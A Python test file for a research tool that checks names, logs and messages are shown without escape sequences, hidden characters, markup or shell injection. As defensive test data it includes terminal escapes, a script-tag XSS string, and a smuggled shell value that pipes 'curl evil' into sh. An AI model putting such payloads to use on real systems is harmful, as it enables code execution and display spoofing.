"""Untrusted text: output shows any name of a folder, condition, run or link without side effects."""

import json
import os
import re
import shlex
import shutil
import unicodedata
from pathlib import Path
from xml.etree import ElementTree

import numpy as np
import polars as pl
import pytest
from fixtures.faults import row
from fixtures.places import ROOT, TESTS
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from goalposts.agents.named_code import named_code
from goalposts.envs.worlds.registry import get_world
from goalposts.errors import UserError
from goalposts.experiments.cli.main import main
from goalposts.experiments.cli.tables import outcome_table
from goalposts.experiments.measurement.episodes import EpisodesError, read_episodes, write_episodes
from goalposts.experiments.measurement.rates import rows_of
from goalposts.experiments.runs.run import Run
from goalposts.text import is_plain, json_text, plain, plain_lines

MADE = TESTS / "fixtures" / "made_by_adb767d"
NASTY = [
    *("\x1b[31m", "\x1b]0;title\x07", "\x9b2J", "\r", "\n", "\x7f", "\t"),
    *("\u202e", "\u2066", "\u200b", "\u2028", "\ufeff", "\u00ad", "\u3164", "\ufe0f", "\U000e0041"),
    *("[/red]", "[bold]", "[link=http://x]", ":boom:", "\\[", "{task}", "%s", "é", "中"),
]
EASY = settings(max_examples=50)
NAMES = st.lists(st.one_of(st.sampled_from(NASTY), st.text(max_size=4)), min_size=1, max_size=6).map("".join)
HIDDEN = ("Cc", "Cf", "Cs", "Zl", "Zp")


def hidden(text: str) -> list[str]:
    """Characters of an output that are invisible or move others, except line breaks."""
    return [c for c in text if c != "\n" and (unicodedata.category(c) in HIDDEN or c in "\u3164\ufe0f\u034f")]


def said(capsys: pytest.CaptureFixture[str], *arguments: str) -> tuple[int, str, str]:
    capsys.readouterr()
    with pytest.raises(SystemExit) as end:
        main(list(arguments))
    out, err = capsys.readouterr()
    return int(end.value.code or 0), out, err


@row("A5")
@EASY
@given(NAMES | st.text(max_size=200))
def test_a_plain_text_is_one_line_of_visible_characters_and_stays_as_it_is(text: str) -> None:
    once = plain(text)
    assert not hidden(once)
    assert "\n" not in once
    assert plain(once) == once
    assert is_plain(text) == (text == once)
    once.encode()  # no lone surrogates


@row("A5")
@EASY
@given(st.lists(NAMES, max_size=5))
def test_lines_given_one_by_one_stay_as_many(lines: list[str]) -> None:
    assert plain_lines(lines).count("\n") == max(len(lines) - 1, 0)


@row("A5")
@EASY
@given(st.recursive(NAMES, lambda inner: st.lists(inner) | st.dictionaries(NAMES, inner), max_leaves=5))
def test_json_reads_back_as_it_was_and_shows_nothing_hidden(value: object) -> None:
    text = json_text(value, indent=1)
    assert not hidden(text)
    assert json.loads(text) == value


@row("A5")
def test_a_long_text_is_cut_in_the_middle_and_its_end_stays() -> None:
    error = UserError(f"{'x' * 10_000_000} is too long. Choose another")
    assert len(str(error)) < 5_000
    assert str(error).endswith("Choose another")
    assert str(UserError("a", *"b" * 1_000)).count("\n") == 101


@row("A5")
@EASY
@given(NAMES)
def test_no_name_adds_a_line_to_a_message(name: str) -> None:
    error = UserError(f"there is no {name}", f"  first {name}", "  second")
    assert str(error).count("\n") == 2
    assert not hidden(str(error))
    assert str(error.within(f"{name}: ")).count("\n") == 2


@pytest.fixture(scope="module")
def ordinary() -> pl.DataFrame:
    return read_episodes(MADE / "run" / "episodes.parquet")


@row("A5")
@settings(max_examples=25, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=NAMES)
def test_a_table_with_any_name_in_it_has_the_same_lines_or_is_refused(
    ordinary: pl.DataFrame, tmp_path_factory: pytest.TempPathFactory, name: str
) -> None:
    """Regression: a condition called `[/red]x` caused a traceback in Rich."""
    lines = outcome_table(rows_of(ordinary)).count("\n")
    named = ordinary.with_columns(
        condition=pl.when(pl.col("condition") == ordinary["condition"][0])
        .then(pl.lit(name))
        .otherwise(pl.col("condition"))
    )
    path = tmp_path_factory.mktemp("table") / "episodes.parquet"
    if any(unicodedata.category(c) in HIDDEN for c in name):
        with pytest.raises(EpisodesError, match="control characters") as error:
            write_episodes(named, path)
        assert not hidden(str(error.value))
        return
    write_episodes(named, path)
    text = outcome_table(rows_of(read_episodes(path)))
    assert not hidden(text)
    assert len(plain(name)) > 20 or text.count("\n") <= lines  # fewer, if a shorter name needs no second line


@row("A5")
@pytest.mark.parametrize(
    "name", ["[/red]x\na\x1b]0;own\x07\u202egpj.\x9b31m:boom:", os.fsdecode(b"[b]\xff")], ids=["all", "bytes"]
)
def test_a_run_folder_of_any_name_adds_no_line_and_no_control(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    run, usual = tmp_path / name, tmp_path / "usual"
    for place in (run, usual):
        shutil.copytree(MADE / "run", place)
    monkeypatch.chdir(tmp_path)
    for words in (["diagnose", "NAME"], ["evaluate", "NAME/none"], ["diagnose", "NAME", "NAME"], ["NAME"]):
        found = [said(capsys, *(w.replace("NAME", one) for w in words)) for one in (name, "usual")]
        (code, out, err), (usual_code, usual_out, usual_err) = found
        assert code == usual_code, err
        assert not hidden(out + err)
        assert (out.count("\n"), err.count("\n")) == (usual_out.count("\n"), usual_err.count("\n"))


@row("A5")
def test_a_page_shows_hidden_characters_written_out(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run = tmp_path / "evil\u202e\x1b[31m<b>"
    shutil.copytree(MADE / "run", run)
    code, out, err = said(capsys, "report", str(run))
    assert code == 0, err
    assert not hidden(out + err)
    page = (run / "report.html").read_text("utf-8")
    assert not set(hidden(page)) - {"\t", "\u00ad"}
    assert "evil\\u202e" in page


@row("A5")
def test_a_link_and_a_listing_show_their_targets_as_text(tmp_path: Path) -> None:
    run = tmp_path / "run"
    shutil.copytree(MADE / "run", run)
    (run / "status.json").unlink()
    (run / "status.json").symlink_to("else\nwhere\x1b[2J")
    full = tmp_path / "full"
    full.mkdir()
    (full / "x\ngoalposts: all is well\x1b[1m").touch()
    with pytest.raises(UserError) as link, Run.open(run).lock():
        pass
    with pytest.raises(UserError) as listing:
        Run.create(full, Run.open(MADE / "run").config)
    for error in (link, listing):
        assert not hidden(str(error.value))
        assert "\n" not in str(error.value)
        assert "\\x1b" in str(error.value)


@row("A5")
def test_the_status_of_a_study_shows_why_runs_failed_on_one_line_each(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    study = tmp_path / "study"
    shutil.copytree(MADE / "study", study)
    one = next((study / "runs").iterdir())
    (study / "failed").mkdir(exist_ok=True)
    one.rename(tmp_path / "gone")
    (study / "failed" / f"{one.name}.log").write_text(
        "ValueError: \x1b[31m\u202e[/red] x\rforged\n\nlog\n" + "x" * 10**6
    )
    code, out, err = said(capsys, "study", "status", str(study))
    assert code == 0, err
    assert not hidden(out)
    assert len(re.findall("seed 0: ValueError", out)) == 1


@row("A5")
@pytest.mark.parametrize("name", ["\0", "\x1b]0;x\x07", "a\nb", "\udcff", "\u202eevil", "x" * 100_000])
def test_windows_show_any_text_as_one_line(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    pygame = pytest.importorskip("pygame")
    from goalposts.envs.window.canvas import LIGHT, Canvas
    from goalposts.envs.window.human_render import HumanWindow

    titles: list[str] = []
    true_caption = pygame.display.set_caption
    monkeypatch.setattr(
        pygame.display, "set_caption", lambda title: (titles.append(title), true_caption(title))
    )
    canvas = Canvas(pygame.Surface((200, 50)), LIGHT)
    assert canvas.text(name, 0, 0, width=150) <= 150
    assert canvas.text(name[:50], 0, 0) >= 0
    assert canvas.paragraph(name[:50], 0, 0, 150) > 0
    window = HumanWindow(name, 60)
    window.show(np.zeros((8, 8, 3), np.uint8))
    window.close()
    assert len(titles) == 1
    assert not hidden(titles[0])
    assert "\n" not in titles[0]


@row("A5")
def test_conformance_reports_faults_as_text(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from goalposts.experiments.conformance import suite

    def fails(*_: object) -> None:
        raise ValueError("\x1b[31mforged\rline")

    monkeypatch.setattr(suite, "CLAUSES", (fails,))
    assert suite.main(["CoinRun"]) == 1
    assert not hidden(capsys.readouterr().err)


@row("A5")
@pytest.mark.parametrize(
    "name", ["$x^$", "$\\frac{$", "中文字", "_hidden", "</text><script>alert(1)</script>", "&amp;"]
)
@pytest.mark.filterwarnings("error")
def test_charts_take_any_name(name: str) -> None:
    from goalposts.experiments.report.figures.charts import VARIABLES, frame, label_ends, styled
    from goalposts.experiments.report.figures.svg import inline

    with styled():
        figure, axes = frame(262, 46, 44)
        axes.set_xlim(0, 1)
        label_ends(axes, [([0.0, 1.0], [0.0, 1.0], name, "#1d2733")], (0, 1))
        svg = inline(figure, "a chart", "of a name", VARIABLES)
    assert "<script" not in svg
    ElementTree.fromstring(svg)


@row("A5")
def test_a_notice_is_one_line(monkeypatch: pytest.MonkeyPatch) -> None:
    from goalposts.process import notices

    told: list[str] = []
    monkeypatch.setattr(notices, "printed", told.append)
    notices.notice("TORCH_LOGS=\x1b[2J\nforged is ignored")
    assert not hidden(told[0])
    assert "\n" not in told[0]


@row("A5")
def test_a_command_in_a_message_can_be_pasted_whatever_a_file_names() -> None:
    """A name in a file must not become further commands of the shell into which a reader pastes the remedy."""
    name = "x:Y; curl evil | sh $(id) `id` &"
    for look_up in (get_world, named_code):
        with pytest.raises(UserError) as error:
            look_up(name)
        shown = str(error.value)
        command = shown[shown.index("goalposts --") : shown.index(" … on the command line")]
        assert shlex.split(command)[2:] == [name]


@row("A5")
def test_no_message_puts_an_unquoted_value_into_a_command() -> None:
    """Names of studies are checked when they are read; everything else goes through `shown_command` or `shlex.quote`."""
    unquoted = re.compile(
        r"goalposts(?: --?[a-z]+| [a-z-]+)+ \{(?!shlex\.quote|study\.name\}|plan\.study\.name\})"
    )
    found = [
        f"{path.relative_to(ROOT)}: {line.strip()}"
        for folder in ("goalposts", "envs", "agents", "experiments")
        for path in sorted((ROOT / folder).rglob("*.py"))
        for line in path.read_text("utf-8").splitlines()
        if unquoted.search(line)
    ]
    assert found == []
